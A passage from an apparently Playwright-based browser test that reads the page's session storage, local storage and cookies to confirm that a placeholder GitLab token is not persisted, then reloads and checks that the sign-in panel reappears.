        "() => JSON.stringify([Object.entries(sessionStorage), Object.entries(localStorage), document.cookie])"
    )
    assert "glpat-test" not in stored
    page.reload()  # another page of the origin (or a reload) finds no token anywhere
    page.wait_for_selector("[data-sa-app=create][data-ready=true]")
    assert page.locator(".sa-gitlab__auth").is_visible()
